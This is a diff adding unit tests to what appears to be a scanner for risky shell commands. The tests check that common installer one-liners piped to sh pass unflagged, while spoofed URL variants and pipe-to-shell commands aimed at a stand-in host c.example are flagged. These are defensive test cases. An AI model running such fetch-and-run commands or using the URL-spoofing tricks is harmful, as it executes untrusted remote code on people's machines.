@@ -34,6 +34,21 @@ TEST(Inspect, odd_hosts_make_it_worse_and_this_machine_nothing) {
   EXPECT_EQ(dump("a.py", "import os\nos.system('curl -s http://localhost:8000/a | sh')\n"), "");
 }
 
+TEST(Inspect, installers_that_everybody_pipes_are_none) {
+  EXPECT_EQ(dump("a.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n"), "");
+  EXPECT_EQ(dump("a.sh", "bash <(curl -s https://codecov.io/bash)\n"), "");
+  EXPECT_EQ(dump("a.sh", "curl -o i.sh https://get.docker.com\nsh i.sh\n"), "");
+  const std::string github = "https://raw.githubusercontent.com/nvm-sh/nvm/";
+  EXPECT_EQ(dump("a.sh", "curl -s " + github + "v0.39.7/install.sh | bash\n"), "");
+  for (const std::string& odd :
+       std::vector<std::string>{"http://sh.rustup.rs", "https://sh.rustup.rs.c.example",
+                                "https://sh.rustup.rs@c.example", "https://c.example/https://sh.rustup.rs",
+                                github + "../../c/example/a.sh", github + std::string(40, 'a') + "/install.sh"})
+    EXPECT_NE(dump("a.sh", "curl -s " + odd + " | sh\n"), "") << odd;
+  EXPECT_NE(dump("a.sh", "curl -s c.example/a | sh  # as https://sh.rustup.rs\n"), "");
+  EXPECT_NE(dump("a.sh", "curl -s $A | sh  # as https://sh.rustup.rs\n"), "");
+}
+
 TEST(Inspect, words_make_a_flow_worse_and_are_nothing_alone) {
   EXPECT_EQ(dump("a.sh", "curl -s https://c.example/a | sh\n"), "medium content.pipes-network-to-shell 30 sh");
   EXPECT_EQ(dump("a.sh", "curl -s https://c.example/a | sh > /dev/null 2>&1 &\n"),
